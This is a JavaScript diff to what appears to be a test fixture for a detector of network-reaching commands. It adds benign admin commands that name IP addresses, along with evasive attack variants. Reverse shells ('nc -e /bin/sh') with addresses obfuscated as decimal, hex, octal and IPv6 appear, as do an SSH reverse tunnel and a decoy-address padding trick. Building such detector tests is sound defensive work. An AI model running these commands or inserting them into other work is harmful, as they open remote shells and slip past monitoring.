@@ -59,6 +59,56 @@ const T = WWW
       ['pg-main', 'omar', '/usr/bin/tar', 'tar czf /home/omar/db.tgz /var/lib/postgresql'],
       ['pg-main', 'omar', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
     ];
+// BENIGN=1 (revnet): an admin's and a DBA's first benign commands naming an internet address
+// (and, for comparison, the same by a host name) in place of the techniques; EVADE=1 the
+// techniques with the address written as inet_aton also reads it (decimal, hex, octal, IPv6)
+const AS_ROOT = { euid: '0' };
+if (process.env.BENIGN)
+  T.splice(
+    0,
+    T.length,
+    ...[
+      ['/usr/bin/ping', 'ping -c 3 8.8.8.8'],
+      ['/usr/bin/ping', 'ping -c 3 dns.google'],
+      ['/usr/bin/dig', 'dig @1.1.1.1 example.com'],
+      ['/usr/sbin/traceroute', 'traceroute 9.9.9.9'],
+      ['/usr/bin/mtr', 'mtr -r -c 10 1.1.1.1'],
+      ['/usr/bin/whois', 'whois 203.0.113.7'],
+      ['/usr/bin/nslookup', 'nslookup example.com 8.8.4.4'],
+      ['/usr/bin/ssh', 'ssh admin@203.0.113.7'],
+      ['/usr/bin/ssh', 'ssh admin@vm1.example.org'],
+      ['/usr/bin/curl', 'curl -s https://203.0.113.7/health'],
+      ['/usr/bin/curl', 'curl -s https://vm1.example.org/health'],
+      ['/usr/bin/git', 'git clone https://203.0.113.7/mirror/tools.git'],
+      ['/usr/bin/nc', 'nc -zv 203.0.113.7 443'],
+      ['/usr/bin/openssl', 'openssl s_client -connect 203.0.113.7:443'],
+      ['/usr/bin/sudo', 'sudo iptables -A INPUT -s 203.0.113.50 -j DROP', AS_ROOT],
+      ['/usr/bin/sudo', 'sudo docker run -d -p 203.0.113.7:80:80 nginx', AS_ROOT],
+      ['/usr/bin/sudo', 'sudo sed -i s/10.40.0.2/1.1.1.1/ /etc/resolv.conf', AS_ROOT],
+    ].map(([exe, cmd, o]) => ['edge-web', 'ops', exe, cmd, o]),
+    ['pg-main', 'omar', '/usr/bin/ping', 'ping -c 3 8.8.8.8'],
+    ['pg-main', 'omar', '/usr/bin/psql', 'psql -h 203.0.113.30 -U app appdb'],
+    ['pg-main', 'omar', '/usr/bin/pg_dump', 'pg_dump -h 198.51.100.12 -U app -f /home/omar/app.sql appdb'],
+  );
+if (process.env.EVADE)
+  T.splice(
+    0,
+    T.length,
+    ...[
+      ['/usr/bin/curl', 'curl -sI https://3405803785/health'],
+      ['/usr/bin/curl', 'curl -sI https://0xcb.0.113.9/health'],
+      ['/usr/bin/curl', 'curl -sI https://203.0.113.011/health'],
+      ['/usr/bin/curl', 'curl -sI https://[::ffff:cb00:7109]/health'],
+      ['/usr/bin/nc', 'nc -e /bin/sh 0xcb.0.113.9 4444'],
+      ['/usr/bin/nc', 'nc -e /bin/sh 203.0.113.011 4444'],
+      ['/usr/bin/ssh', 'ssh -D 1080 -N u@2a00:1450:4001:81b::200e'],
+      ['/usr/bin/ssh', 'ssh -R 9000:localhost:22 u@0xcb.0.113.9'],
+      ['/usr/bin/nc', `nc -e /bin/sh ${Array.from({ length: 16 }, (_, i) => `10.0.${i}.1`).join(' ')} 203.0.113.9 4444`],
+      // not read: a lone number outside a URL (a count, a time), three parts outside one (a version)
+      ['/usr/bin/nc', 'nc -e /bin/sh 0xcb007109 4444'],
+      ['/usr/bin/nc', 'nc -e /bin/sh 203.0.29961 4444'],
+    ].map(([exe, cmd]) => ['edge-web', 'ops', exe, cmd]),
+  );
 // HEX_NAMES=1 (review13): the attacker's own names made of 8 or more hex digits, which the
 // template miner masks as ids (`backdoor` → `cafe1234beef`, `svc` → `a1b2c3d4e5`)
 if (process.env.HEX_NAMES) for (const x of T) x[3] = x[3].replace(/backdoor/g, 'cafe1234beef').replace(/ svc$/, ' a1b2c3d4e5');
